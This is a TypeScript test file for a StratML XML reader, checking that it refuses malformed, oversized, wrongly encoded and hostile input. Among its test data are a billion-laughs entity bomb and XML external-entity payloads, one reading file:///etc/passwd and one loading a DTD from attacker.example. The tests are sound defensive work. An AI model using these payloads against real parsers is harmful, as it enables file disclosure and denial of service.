import fc from 'fast-check'
import { expect, test } from 'vitest'
import { maxBytes, readStratml } from './read.ts'
import { corePlan, read, refusalOf, repairsOf } from './testing/plans.ts'
import { sharedFile } from './testing/schemas.ts'

const utf16 = (text: string) => new Uint8Array(Buffer.from(text, 'utf16le'))

test('a billion laughs are refused before the first one', () => {
  const bomb = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
${corePlan().replace('>Plan<', '>&lol3;<')}`
  expect(refusalOf(bomb)).toMatchObject({ because: 'entities', line: 2 })
})
test.each([
  ['an external entity', '<!DOCTYPE r [<!ENTITY file SYSTEM "file:///etc/passwd">]>'],
  ['a parameter entity', '<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>'],
  ['the use of a parameter entity', '<!DOCTYPE r [ %remote; ]>'],
  ['an entity in small letters', '<!DOCTYPE r [<!entity a "b">]>'],
  ['an entity behind a quoted bracket', `<!DOCTYPE r [<!ATTLIST r a CDATA "]>"><!ENTITY a "b">]>`],
])('%s is refused', (_what, doctype) => {
  expect(refusalOf(`\n${doctype}${corePlan()}`)).toMatchObject({ because: 'entities', line: 2 })
})
test('a document type without entities is skipped, and said so', () => {
  const doctype = '<!DOCTYPE StrategicPlan SYSTEM "stratml.dtd">'
  expect(repairsOf(doctype + corePlan())).toEqual(['doctype_ignored StrategicPlan SYSTEM "stratml.dtd"'])
})
test.each(['nbsp', 'constructor', 'toString', '__proto__', 'hasOwnProperty'])('the entity &%s; is unknown', (name) => {
  const refusal = refusalOf(corePlan().replace('>Plan<', `>a &${name}; b<`))
  expect(refusal).toMatchObject({ because: 'not-well-formed', detail: `unknown entity &${name};` })
})

test('a truncated file is refused with the line where it ends and the element that is open', () => {
  const whole = new TextDecoder().decode(sharedFile('documents/StratTest.xml'))
  const refusal = refusalOf(whole.slice(0, whole.indexOf('</stratml:Vision>')))
  expect(refusal).toMatchObject({ because: 'not-well-formed', line: 145 })
  expect(refusal.detail).toContain('Vision, opened in line 142, is not closed')
})
test.each([
  ['a wrong end tag', '<Name>Plan</Title>', 1],
  ['an ampersand', '\n<Name>Sports & Recreation</Name>', 2],
  ['an attribute twice', '<Name/><Goal a="1" a="2"/>', 1],
  ['an attribute without quotes', '<Name/>\n\n<Goal a=1/>', 3],
  ['a control character', '<Name>a\n\u0001</Name>', 2],
  ['a reference to a control character', '<Name>a\n&#0;</Name>', 2],
  ['a bare less-than sign', '<Name>1 < 2</Name>', 1],
  ['a declaration in the middle', '<!ELEMENT a ANY>', 1],
])('%s is not well-formed', (_what, content, line) => {
  expect(refusalOf(corePlan(content))).toMatchObject({ because: 'not-well-formed', line })
})
test('text or a second element behind the root element is not well-formed', () => {
  expect(refusalOf(`${corePlan()}more`)).toMatchObject({ because: 'not-well-formed' })
  expect(refusalOf(`${corePlan()}<![CDATA[more]]>`)).toMatchObject({ because: 'not-well-formed' })
  expect(refusalOf(`${corePlan()}<a/>`)).toMatchObject({ because: 'not-well-formed' })
})

test('an empty file, white space and a picture are no XML', () => {
  expect(refusalOf('')).toMatchObject({ because: 'not-well-formed' })
  expect(refusalOf(' \n ')).toMatchObject({ because: 'not-well-formed' })
  expect(refusalOf(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d]))).toMatchObject({ because: 'not-well-formed' })
  expect(refusalOf('{"name": "Plan"}')).toMatchObject({ because: 'not-well-formed' })
  expect(refusalOf('<?xml version="1.0"?><!-- nothing -->')).toMatchObject({ because: 'not-well-formed' })
})
test('a web page and another kind of XML are not StratML, whatever follows', () => {
  expect(refusalOf('<!doctype html>\n<html><p>Text<br></html>')).toMatchObject({ because: 'not-stratml', line: 1 })
  expect(refusalOf('<html><p>Text<br></html>')).toMatchObject({
    because: 'not-stratml',
    detail: 'this is an HTML page',
  })
  expect(refusalOf('\n<rss><channel>')).toMatchObject({
    because: 'not-stratml',
    line: 2,
    detail: 'the root element is rss',
  })
})
test('11 MB are too large, whatever is in them', () => {
  expect(refusalOf(new Uint8Array(11_000_000))).toMatchObject({ because: 'too-large' })
  expect(refusalOf(new Uint8Array(maxBytes + 1))).toMatchObject({ because: 'too-large' })
  expect(refusalOf(new Uint8Array(maxBytes))).not.toMatchObject({ because: 'too-large' })
})
test('what only exhausts the reader is refused', () => {
  expect(refusalOf(corePlan('<Goal>'.repeat(2000)))).toMatchObject({ because: 'not-stratml' })
  expect(refusalOf(corePlan('<a/>'.repeat(100_001)))).toMatchObject({ because: 'not-stratml' })
  expect(refusalOf(corePlan(`<Goal ${Array.from({ length: 200 }, (_, n) => `a${n}=""`).join(' ')}/>`))).toMatchObject({
    because: 'not-stratml',
  })
})

const umlauts = corePlan('<Goal><Name>Größe – 5 €</Name><Description/></Goal>')
test.each([
  ['UTF-8', new TextEncoder().encode(umlauts)],
  ['UTF-8 with byte order mark', new TextEncoder().encode(`\uFEFF${umlauts}`)],
  ['UTF-16 little endian', utf16(`\uFEFF<?xml version="1.0" encoding="UTF-16"?>${umlauts}`)],
  ['UTF-16 big endian', new Uint8Array(Buffer.from(utf16(`\uFEFF${umlauts}`)).swap16())],
  ['UTF-16 without byte order mark', utf16(umlauts)],
])('%s is read', (_name, bytes) => {
  const { document, repairs } = read(bytes)
  expect(document.strategicPlanCore.goals[0]?.name).toBe('Größe – 5 €')
  expect(repairs).toEqual([])
})
test.each(['iso-8859-1', 'windows-1252'])(
  '%s is read as it is declared, with the euro and dash of Windows',
  (encoding) => {
    const text = Buffer.from(
      `<?xml version="1.0" encoding="${encoding}"?>${umlauts}`.replace('–', '\x96').replace('€', '\x80'),
      'latin1',
    )
    expect(read(new Uint8Array(text)).document.strategicPlanCore.goals[0]?.name).toBe('Größe – 5 €')
  },
)
test('a wrong encoding is one clear problem with its line', () => {
  const latin1 = new Uint8Array(
    Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>\n${corePlan('<Goal>\n<Name>\uFFFD')}Größe`, 'latin1'),
  )
  expect(refusalOf(latin1)).toMatchObject({ because: 'encoding', line: 3, detail: 'the bytes are not utf-8' })
  const cut = utf16(`\uFEFF${corePlan('\n')}`).slice(0, -1)
  expect(refusalOf(cut)).toMatchObject({ because: 'encoding', line: 2 })
  expect(refusalOf('<?xml version="1.0" encoding="EBCDIC"?><a/>')).toMatchObject({ because: 'encoding', line: 1 })
  expect(refusalOf(new Uint8Array([0xff, 0xfe, 0, 0, 0x3c, 0, 0, 0]))).toMatchObject({ because: 'encoding', line: 1 })
})
test('a replacement character that stands in the file is not taken for the fault', () => {
  const start = new TextEncoder().encode('<a>\uFFFD\n\uFFFD\n')
  expect(refusalOf(new Uint8Array([...start, 0xfc]))).toMatchObject({ because: 'encoding', line: 3, column: 1 })
})
test('a file that says UTF-16 but is UTF-8 is read and reported', () => {
  expect(repairsOf(`<?xml version="1.0" encoding="utf-16"?>${umlauts}`)).toEqual(['encoding_declared utf-16 > utf-8'])
})

test('whatever is done to the bytes of a real file, the answer is a value', () => {
  const original = sharedFile('documents/PMOAI.xml')
  const edit = fc.record({
    at: fc.nat(original.length - 1),
    byte: fc.constantFrom(0, 0x20, 0x22, 0x26, 0x2f, 0x3c, 0x3e, 0xff),
  })
  fc.assert(
    fc.property(fc.array(edit, { minLength: 1, maxLength: 5 }), fc.nat(original.length), (edits, length) => {
      const bytes = original.slice(0, length % 3 === 0 ? length : original.length)
      for (const { at, byte } of edits) if (at < bytes.length) bytes[at] = byte
      expect(['read', 'refused']).toContain(readStratml(bytes).kind)
    }),
    { numRuns: 300 },
  )
})
